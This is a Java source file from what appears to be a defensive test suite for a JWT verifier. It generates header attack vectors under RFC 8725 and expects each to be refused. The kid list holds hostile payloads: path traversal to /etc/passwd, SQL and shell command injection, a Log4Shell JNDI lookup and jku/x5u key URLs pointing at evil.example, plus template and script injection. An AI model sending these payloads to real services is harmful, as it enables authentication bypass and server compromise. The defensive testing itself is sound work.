package dev.edgepass.attack;

import dev.edgepass.decision.DecisionVector;
import dev.edgepass.decision.Refusal;
import java.util.List;

/** Headers that bring a key, inject through {@code kid}, ask for extensions, or belong to another kind of token (RFC 8725 sections 2.8, 3.10 and 3.11). */
final class HeaderAttacks {
    private static final List<String> KEY_MEMBERS = List.of("jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256");
    private static final List<String> OTHER_MEMBERS =
            List.of("JWK", "Jku", "x5T", "cty", "zip", "enc", "epk", "__proto__");
    private static final List<String> KIDS = List.of(
            "",
            " ",
            ".",
            "/",
            "token-key ",
            " token-key",
            "Token-Key",
            "TOKEN-KEY",
            "token-key\\u0000",
            "token-key\\n",
            "token\\u2010key",
            "token-key,feed-key",
            "../../../../dev/null",
            "..\\\\..\\\\windows\\\\win.ini",
            "/etc/passwd",
            "file:///etc/passwd",
            "https://evil.example/jwks.json",
            "' OR '1'='1",
            "x' UNION SELECT 'key' -- ",
            "$(id)",
            "`id`",
            "| sleep 10",
            "; ls",
            "%00",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "__proto__",
            "constructor",
            "toString",
            "null",
            "undefined",
            "0",
            "-1",
            "true",
            "*",
            "\\u202etoken-key",
            "\\ufefftoken-key",
            "\\ud83d\\ude00",
            "segments/head",
            "FEED_KEYS");
    private static final List<String> TYPES = List.of(
            "",
            "JWT",
            "jwt",
            "at+jwt",
            "logout+jwt",
            "dpop+jwt",
            "JOSE",
            "media",
            "jwt+media",
            "media+jwt ",
            " media+jwt",
            "Media+JWT",
            "MEDIA+JWT",
            "media+jwt\\u0000",
            "media jwt",
            "application/media+jwt",
            "media+jwt;v=1",
            "edgepass-head+jwt");
    private static final List<String> CRITS =
            List.of("[]", "[\"exp\"]", "[\"b64\"]", "[\"alg\"]", "[\"\"]", "[1]", "\"exp\"", "{}", "true", "1");

    private HeaderAttacks() {}

    static List<DecisionVector> of(TokenForge forge) {
        Catalogue all = new Catalogue("header");
        ownKeys(all, forge);
        for (String kid : KIDS) {
            all.add("kid \"" + kid + "\"", forge.withHeader(forge.header("kid", '"' + kid + '"')), Refusal.UNKNOWN_KEY);
        }
        all.add(
                "a kid of 1,000 letters",
                forge.withHeader(forge.header("kid", '"' + "k".repeat(1000) + '"')),
                Refusal.UNKNOWN_KEY);
        String feedKid = forge.header("kid", "\"feed-key\"");
        all.add("the feed's kid and key", forge.token(feedKid, forge.claims(), forge.feedKey()), Refusal.UNKNOWN_KEY);
        all.badSignature("our kid, the feed's key", forge.token(forge.header(), forge.claims(), forge.feedKey()));
        all.badSignature(
                "our kid, a stranger's key", forge.token(forge.header(), forge.claims(), forge.strangersKey()));
        all.granted("our kid by its escapes", forge.withHeader(forge.header("kid", "\"token\\u002dkey\"")));
        for (String type : TYPES) {
            all.malformed("typ \"" + type + "\"", forge.withHeader(forge.header("typ", '"' + type + '"')));
        }
        for (String crit : CRITS) {
            all.malformed("crit " + crit, forge.withHeader(forge.headerAnd(",\"crit\":" + crit)));
            all.malformed("b64 " + crit, forge.withHeader(forge.headerAnd(",\"b64\":" + crit)));
        }
        for (String name : forge.headerNames()) {
            all.malformed(name + " missing", forge.withHeader(forge.header(name, null)));
        }
        return all.vectors();
    }

    private static void ownKeys(Catalogue all, TokenForge forge) {
        String jwk = forge.strangersKey().toPublicJWK().toJSONString();
        List<String> values =
                List.of(jwk, "\"https://evil.example/keys\"", "[\"MIIB\"]", "{}", "[]", "\"\"", "true", "0");
        for (String member : KEY_MEMBERS) {
            for (String value : values) {
                String header = forge.headerAnd(",\"" + member + "\":" + value);
                String what = member + " " + (value.equals(jwk) ? "with a key" : value);
                all.malformed(what + ", signed by it", forge.token(header, forge.claims(), forge.strangersKey()));
                all.malformed(what + ", signed by us", forge.withHeader(header));
            }
            String escaped = String.format("\\u%04x", (int) member.charAt(0)) + member.substring(1);
            all.malformed(escaped, forge.withHeader(forge.headerAnd(",\"" + escaped + "\":" + jwk)));
        }
        for (String member : OTHER_MEMBERS) {
            String header = forge.headerAnd(",\"" + member + "\":" + jwk);
            all.badSignature(member + ", signed by it", forge.token(header, forge.claims(), forge.strangersKey()));
            all.granted(member + " says nothing to us", forge.withHeader(header));
        }
        String claims = forge.claimsAnd(",\"cnf\":{\"jwk\":" + jwk + "}");
        all.badSignature("a jwk among the claims", forge.token(forge.header(), claims, forge.strangersKey()));
    }
}
